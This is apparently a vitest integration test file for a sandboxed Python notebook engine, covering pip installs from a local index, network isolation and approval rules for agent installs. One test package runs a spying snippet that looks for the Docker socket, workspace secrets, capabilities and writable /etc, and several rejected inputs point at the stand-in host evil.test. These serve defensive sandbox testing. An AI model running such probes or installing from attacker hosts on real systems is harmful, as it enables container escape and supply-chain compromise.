import { execFile } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { systemClock } from '../../../src/base/clock.ts';
import { silentLog } from '../../../src/base/log.ts';
import type { OptionsInput } from '../../../src/engine/options.ts';
import type { SessionRecord, SessionStore } from '../../../src/engine/session/sessionRecord.ts';
import type { Engine, Owner, RunResult } from '../../../src/engine/types.ts';
import { dockerHost } from '../../../src/host/docker/dockerHost.ts';
import { LABEL } from '../../../src/host/labels.ts';
import { installingEngine } from './installing.ts';
import { archiveOf, type IndexedPackage, type LocalIndex, localIndex } from './localIndex.ts';
import { spyingPackage } from './spyingPackage.ts';

const PERSON: Owner = { id: 'person', kind: 'notebook', label: 'notebook' };
const AGENT: Owner = { id: 'agent', kind: 'mcp', label: 'agent' };

/** What a package finds in the container that builds it. */
const SPY = `
import os, subprocess, sys
found = []
for root in ("/cache", "/packages", "/workspace", "/var/run/docker.sock"):
    try: found.append("%s: %s" % (root, sorted(os.listdir(root))))
    except OSError as error: found.append("%s: %s" % (root, type(error).__name__))
secrets = [name for folder in ("/workspace", "/tmp", "/work") for _, _, names in os.walk(folder) for name in names if "secret" in name]
status = open("/proc/self/status").read()
caps = [line.split()[1] for line in status.splitlines() if line.startswith("CapEff")][0]
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"], start_new_session=True, stdout=-3, stderr=-3)
try: open("/etc/planted", "w"); root = "writable"
except OSError: root = "read-only"
seen = (found, secrets, caps, os.getuid(), root)`;

const PACKAGES: IndexedPackage[] = [
  { name: 'greeting', version: '1.0', files: { 'greeting/__init__.py': 'text = "one"\n' } },
  { name: 'greeting', version: '2.0', files: { 'greeting/__init__.py': 'text = "two"\n' } },
  {
    name: 'program',
    version: '1.0',
    requires: ['greeting'],
    files: {
      'program.py': 'def main():\n    import greeting\n    print("program says", greeting.text)\n',
      'early.pth': 'import os; os.environ["EARLY"] = "yes"\n',
      'program-1.0.dist-info/entry_points.txt': '[console_scripts]\nprogram = program:main\n',
    },
  },
  { name: 'shared-one', version: '1.0', files: { 'shared/one.py': 'n = 1\n' } },
  { name: 'shared-two', version: '1.0', files: { 'shared/two.py': 'n = 2\n' } },
  { name: 'pandas', version: '99.0', files: { 'pandas/__init__.py': '__version__ = "99.0"\n' } },
  spyingPackage(SPY),
];

let index: LocalIndex;
const engines: Engine[] = [];
const host = dockerHost({ env: process.env, home: process.env.HOME ?? '/', log: silentLog });
const machine = `packages-${randomBytes(8).toString('hex')}`;

async function newEngine(options: OptionsInput = {}, sessionStore?: SessionStore): Promise<Engine> {
  const engine = await installingEngine(machine, options, sessionStore);
  engines.push(engine);
  return engine;
}

async function open(engine: Engine, owner = PERSON): Promise<string> {
  const opened = await engine.openSession('python', owner);
  if (!opened.ok) throw new Error(opened.error.message);
  return opened.value.id;
}

function cell(
  engine: Engine,
  sessionId: string,
  code: string,
  owner = PERSON,
  signal?: AbortSignal,
): Promise<RunResult> {
  return engine.run({ language: 'python', code, owner, sessionId }, undefined, signal);
}

/** One installer may wait for the next order; the others are gone. */
async function expectFewInstallers(engine: Engine): Promise<void> {
  const sandboxes = () => engine.snapshot().environments.flatMap((one) => one.sandboxes).length;
  await expect.poll(async () => (await containers()).length - sandboxes()).toBeLessThanOrEqual(1);
}

const containers = () => host.list({ [LABEL.machine]: machine });

beforeAll(async () => {
  index = await localIndex(PACKAGES);
});
afterAll(async () => {
  await Promise.all(engines.map((engine) => engine.dispose()));
  await index.close();
  await promisify(execFile)('docker', ['volume', 'rm', '--force', `hothouse-packages-${machine}`]);
  await host.dispose();
});

describe('packages from an index', () => {
  let engine: Engine;
  beforeAll(async () => {
    engine = await newEngine({ packages: { index: index.url, agents: 'ask', allowed: ['Greeting'] } });
  });

  it('come into a living session, which keeps its variables and has no network', async () => {
    const id = await open(engine);
    await cell(engine, id, 'x = 41');
    const installed = await cell(engine, id, '%pip install greeting==1.0\nimport greeting\n(x + 1, greeting.text)');
    expect(installed).toMatchObject({ status: 'ok', error: null });
    expect(installed.stdout).toContain('greeting==1.0');
    expect(installed.result).toMatchObject({ 'text/plain': "(42, 'one')" });
    const seen = await cell(
      engine,
      id,
      'print([line.split(":")[0].strip() for line in open("/proc/net/dev") if ":" in line])',
    );
    expect(seen.stdout).toBe("['lo']\n");
    const writes =
      'import os\nfor path in ("/packages/x", os.path.dirname(greeting.__file__) + "/x", greeting.__file__):\n  try: open(path, "a")\n  except OSError as e: print(e.errno)';
    expect((await cell(engine, id, writes)).stdout).toBe('13\n13\n13\n');
    await expectFewInstallers(engine);
  });

  it('bring programs, .pth files, namespace packages and what they require', async () => {
    const id = await open(engine);
    const code =
      '!uv pip install program\n%pip install -q shared-one\n%pip install -q shared-two\n!program\nimport os, shared.one, shared.two\nprint(os.environ["EARLY"], shared.one.n + shared.two.n)';
    const result = await cell(engine, id, code);
    expect(result).toMatchObject({ status: 'ok', error: null });
    expect(result.stdout).toContain('program says two\nyes 3\n');
    expect(result.stdout).not.toContain('shared-one');
  });

  it('win over those of the image for new imports, and a note says when to restart', async () => {
    const id = await open(engine);
    const result = await cell(engine, id, '%pip install -U pandas\nimport pandas; pandas.__version__');
    expect(result.result).toMatchObject({ 'text/plain': "'99.0'" });
    expect(result.stdout).toMatch(/Note: pandas 99\.0 replaces 2\.\S+: .*restart the session/);
  });

  it('are there again after a restart of the session', async () => {
    const id = await open(engine);
    await cell(engine, id, '%pip install greeting==1.0');
    await engine.restartSession(id);
    const result = await cell(engine, id, 'import greeting; print(greeting.text)');
    expect(result).toMatchObject({ status: 'ok', stdout: expect.stringMatching(/greeting==1\.0\n[\s\S]*one\n$/) });
  });

  it('come from a wheel in the workspace', async () => {
    const id = await open(engine);
    const folder = await mkdtemp(join(tmpdir(), 'hothouse-wheel-'));
    const wheel = await archiveOf({ name: 'mine', version: '3.0', files: { 'mine.py': 'n = 3\n' } }, folder);
    await rm(folder, { recursive: true });
    await engine.files(id).put('dist/mine-3.0-py3-none-any.whl', wheel);
    const result = await cell(engine, id, '%pip install ./dist/mine-3.0-py3-none-any.whl\nimport mine; mine.n');
    expect(result.result).toMatchObject({ 'text/plain': '3' });
  });

  it('are refused with the words of the installer when there is no such package, and the session lives', async () => {
    const id = await open(engine);
    await cell(engine, id, 'x = 1');
    const result = await cell(engine, id, '%pip install no-such-package\nx = 2');
    expect(result).toMatchObject({ status: 'error', error: { name: 'InstallError' }, sessionLost: false });
    expect(result.error?.message).toContain('no-such-package was not found in the package registry');
    expect((await cell(engine, id, 'x')).result).toMatchObject({ 'text/plain': '1' });
  });

  it.each([
    ['%pip install -r list.txt', 'does not take -r here'],
    ['%pip install --index-url http://evil.test greeting', 'set by the options packages.*'],
    ['%pip install https://evil.test/x.tar.gz', 'is not the name of a package'],
    ['%pip install git+https://evil.test/x', 'is not the name of a package'],
    ['%pip install ../x', 'is not the name of a package'],
    ['%pip install', 'names no package'],
  ])('are rejected before anything starts: %s', async (code, message) => {
    const id = await open(engine);
    const before = index.asked.length;
    const result = await cell(engine, id, code);
    expect(result).toMatchObject({ status: 'rejected' });
    expect(result.error?.message).toContain(message);
    expect(index.asked.length).toBe(before);
    await engine.closeSession(id);
  });

  it('of agents need agreement, unless they are on the list', async () => {
    const id = await open(engine, AGENT);
    const asked = await cell(engine, id, '%pip install shared-one', AGENT);
    expect(asked).toMatchObject({ status: 'rejected', error: { name: 'needs_approval' } });
    expect(await cell(engine, id, '%pip install greeting', AGENT)).toMatchObject({ status: 'ok' });
    const request = { sessionId: id, owner: AGENT, packages: ['shared-one'] };
    expect(await engine.installPackages(request)).toMatchObject({ ok: false, error: { kind: 'needs_approval' } });
    const agreed = await engine.installPackages({ ...request, isApproved: true });
    expect(agreed).toMatchObject({
      ok: true,
      value: { added: [{ name: 'shared-one', version: '1.0', replaced: null }] },
    });
  });

  it('that hang end when the cell is cancelled, leave nothing, and the next ones come', async () => {
    const id = await open(engine);
    const controller = new AbortController();
    setTimeout(() => controller.abort(), 4_000);
    expect(await cell(engine, id, '%pip install slow', PERSON, controller.signal)).toMatchObject({
      status: 'interrupted',
    });
    expect((await cell(engine, id, 'import os; os.path.exists("/packages/index")')).result).toMatchObject({
      'text/plain': 'False',
    });
    const interrupted = cell(engine, id, '%pip install slow');
    setTimeout(() => void engine.interruptSession(id), 4_000);
    expect(await interrupted).toMatchObject({ status: 'interrupted' });
    expect(await cell(engine, id, '%pip install greeting')).toMatchObject({ status: 'ok' });
  });

  it('keep the place of their cell: a cell that comes meanwhile runs after its code', async () => {
    const id = await open(engine);
    await cell(engine, id, 'order = []');
    const installing = cell(engine, id, '%pip install -q greeting\nimport greeting\norder.append("installs")');
    const next = cell(engine, id, 'order.append("comes after"); order');
    expect(await installing).toMatchObject({ status: 'ok' });
    expect((await next).result).toMatchObject({ 'text/plain': "['installs', 'comes after']" });
  });

  it('asked for at once wait for each other', async () => {
    const id = await open(engine);
    const install = (name: string) => engine.installPackages({ sessionId: id, owner: PERSON, packages: [name] });
    const both = await Promise.all([install('shared-one'), install('shared-two')]);
    expect(both.map(({ ok }) => ok)).toEqual([true, true]);
    expect((await cell(engine, id, 'import shared.one, shared.two; shared.two.n')).result).toMatchObject({
      'text/plain': '2',
    });
  });

  it('are built alone: without files of the session, packages of others, the cache, rights or a life after', async () => {
    const id = await open(engine);
    await engine.files(id).put('secret.txt', 'a secret');
    const result = await cell(
      engine,
      id,
      '%pip install -q greeting\n%pip install spying\nimport spying; print(spying.seen)',
    );
    expect(result).toMatchObject({ status: 'ok', error: null });
    const found = result.stdout.split('\n').at(-2);
    expect(found).toBe(
      "(['/cache: FileNotFoundError', '/packages: FileNotFoundError', '/workspace: []', '/var/run/docker.sock: FileNotFoundError'], [], '0000000000000000', 65000, 'read-only')",
    );
    await expectFewInstallers(engine);
  });

  it('cannot be installed without a session', async () => {
    const result = await engine.run({ language: 'python', code: '%pip install greeting', owner: PERSON });
    expect(result).toMatchObject({ status: 'rejected', error: { message: expect.stringContaining('Open a session') } });
  });
});

describe('an engine that installs', () => {
  const options = (): OptionsInput => ({ packages: { index: index.url } });

  it('does the same again without asking the index, within a second', async () => {
    const engine = await newEngine(options());
    expect(await cell(engine, await open(engine), '%pip install greeting==1.0')).toMatchObject({ status: 'ok' });
    const asked = index.asked.length;
    const id = await open(engine);
    const startedAt = performance.now();
    const again = await cell(engine, id, '%pip install greeting==1.0\nimport greeting\ngreeting.text');
    expect(again.result).toMatchObject({ 'text/plain': "'one'" });
    expect(again.stdout).toContain('greeting==1.0');
    expect(performance.now() - startedAt).toBeLessThan(1_000 * systemClock.slowness());
    expect(index.asked.length).toBe(asked);
    // Another request, or another base, is resolved.
    expect((await cell(engine, id, '%pip install -U greeting')).stdout).toContain('greeting==2.0');
    expect(index.asked.length).toBeGreaterThan(asked);
  });

  it('keeps one installer ready, for one order, and leaves none when it ends', async () => {
    const engine = await newEngine(options());
    const id = await open(engine);
    expect(await cell(engine, id, '%pip install greeting==1.0')).toMatchObject({ status: 'ok' });
    const sandboxes = engine.snapshot().environments.flatMap((one) => one.sandboxes.map((sandbox) => sandbox.id));
    const installers = async () => (await containers()).map((one) => one.id).filter((one) => !sandboxes.includes(one));
    const known = await installers();
    await expect.poll(async () => (await installers()).length).toBeGreaterThan(0);
    const [waiting = ''] = (await installers()).filter((one) => !known.includes(one));
    expect(await cell(engine, id, '%pip install shared-one')).toMatchObject({ status: 'ok' });
    await expect.poll(installers).not.toContain(waiting);
    await engine.dispose();
    const left = (await containers()).map((one) => one.id);
    expect(left.filter((one) => [...sandboxes, waiting].includes(one))).toEqual([]);
  });

  it('resumes a session with its packages, and has them again after a restart', async () => {
    const kept = new Map<string, SessionRecord>();
    const store: SessionStore = {
      save: async (record) => void kept.set(record.sessionId, record),
      remove: async () => {},
    };
    const first = await newEngine(options(), store);
    const id = await open(first);
    const code = '%pip install -q greeting==1.0\nimport greeting\ngreeting.text';
    expect((await cell(first, id, code)).result).toMatchObject({ 'text/plain': "'one'" });
    await first.detach();
    const next = await newEngine(options(), store);
    const record = kept.get(id);
    if (!record) throw new Error('the session is not kept');
    expect(await next.resumeSession(record)).toMatchObject({ ok: true });
    expect((await cell(next, id, 'greeting.text')).result).toMatchObject({ 'text/plain': "'one'" });
    expect((await cell(next, id, '%pip install greeting')).stdout).not.toContain('+ greeting');
    await next.restartSession(id);
    expect((await cell(next, id, 'import greeting; greeting.text')).result).toMatchObject({ 'text/plain': "'one'" });
  });
});

it('is a line of the error that says how to install a missing module, or why a name is not resolved', async () => {
  const engine = await newEngine();
  const id = await open(engine);
  const missing = await cell(engine, id, 'import cv2');
  expect(missing.error?.message).toContain('To install it, run `%pip install opencv-python-headless` in a session');
  const offline = await cell(engine, id, 'import urllib.request\nurllib.request.urlopen("http://example.test/")');
  expect(offline.error?.message).toContain('Sandboxes have no network.');
  expect(offline.error?.message).toContain('network.allow');
});

it('installs from the index of this machine, with the cache in at most a few seconds', async () => {
  const engine = await newEngine();
  const id = await open(engine);
  expect(await cell(engine, id, '%pip install humanize')).toMatchObject({ status: 'ok' });
  const other = await open(engine);
  const second = await cell(engine, other, '%pip install humanize\nimport humanize; humanize.intcomma(12345)');
  expect(second.result).toMatchObject({ 'text/plain': "'12,345'" });
});
